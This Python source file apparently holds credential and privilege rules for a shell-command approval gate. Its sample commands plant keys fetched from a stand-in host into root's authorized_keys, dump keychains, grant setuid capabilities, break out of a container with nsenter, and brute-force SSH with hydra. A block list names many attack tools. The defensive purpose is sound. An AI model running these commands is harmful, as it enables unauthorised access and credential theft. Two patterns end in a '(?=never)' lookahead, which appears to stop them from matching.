"""Credentials and privilege: writing keys, exporting secrets, gaining rights."""

from shellward.approval import checks
from shellward.approval.rule import Rule
from shellward.core.gate import Severity

_H, _M, _L = Severity.HIGH, Severity.MEDIUM, Severity.LOW

RULES: tuple[Rule, ...] = (
    Rule("secrets.write", "> >>", "", "writes to keys or credentials", _H, "Somebody gains access, or you lose yours.", ("echo k >> ~/.ssh/authorized_keys", "install -m600 /tmp/c ~/.netrc", "curl -s x.example/k | tee -a /root/.ssh/authorized_keys", "perl -i -pe s/a/b/ ~/.netrc"), ("cat ~/.ssh/config", "ssh-keygen -t ed25519 -f k", "echo x > .env.example"), checks.write_credentials),
    Rule("secrets.ssh-key", "ssh-keygen ssh-copy-id ssh-add", r"^ssh-copy-id|^ssh-add (?:.* )?-[dDxX]\b|^ssh-keygen (?:.* )?-(?:R|A)\b(?=never)", "gives a key access, or takes keys away", _M, "Logins change.", ("ssh-copy-id h", "ssh-add -D"), ("ssh-add -l", "ssh-add -L", "ssh-keygen -lf k.pub")),
    Rule("secrets.gpg", "gpg gpg2 gpgsm", r" --(?:delete-secret-keys|delete-secret-and-public-key|export-secret-keys|export-secret-subkeys|delete-keys)\b", "exports or deletes private keys", _H, "Without the key nothing can be decrypted; with it anybody can.", ("gpg --delete-secret-keys x", "gpg --export-secret-keys -a x"), ("gpg --list-keys", "gpg -d f.gpg", "gpg --verify a.sig")),
    Rule("secrets.keychain", "security secret-tool keyring kwallet-query cmdkey vaultcmd", r"^security (?:dump-keychain|find-(?:generic|internet)-password .*-w|export|delete-\S+)|^secret-tool (?:clear|lookup)(?=never)|^keyring del|^cmdkey /delete", "reads or deletes stored passwords", _H, "Passwords are shown or lost.", ("security dump-keychain", "security delete-keychain x"), ("security list-keychains",)),
    Rule("secrets.setcap", "setcap capsh", r"^setcap (?!-v)\S*", "gives a program the system's powers", _H, "Whoever runs it has them.", ("setcap cap_setuid+ep ./x", "setcap cap_net_raw=ep x"), ("getcap x", "setcap -v x y"), unless=r"^setcap -v|^capsh --print"),
    Rule("secrets.nsenter", "nsenter chroot unshare", r"^nsenter (?=.*(?:-t=? ?1\b|--target[= ]1\b))|^nsenter .*--target=1|^chroot (?:/host|/mnt/host|/proc/1/root)", "enters the host from a container", _H, "What runs inside takes over the host.", ("nsenter -t 1 -m -u -n -i sh", "chroot /host sh"), ("nsenter --help", "chroot ./rootfs ls")),
    Rule("secrets.dump", "mimikatz lazagne secretsdump.py impacket-secretsdump hydra medusa responder crackmapexec nxc bloodhound-python rubeus kerbrute msfconsole msfvenom sqlmap nikto setoolkit beef-xss aircrack-ng airmon-ng aireplay-ng arpspoof ettercap bettercap hping3 slowloris masscan procdump linpeas.sh winpeas.exe chntpw unshadow pypykatz evil-winrm psexec.py wmiexec.py", r"^(?!\S+ (?:--version|-h)$)", "is an attack tool", _M, "It breaks into accounts or machines.", ("hydra -l root -P w.txt ssh://h", "msfvenom -p x", "sqlmap -u http://x.example"), ("hydra --version",)),
)  # fmt: skip
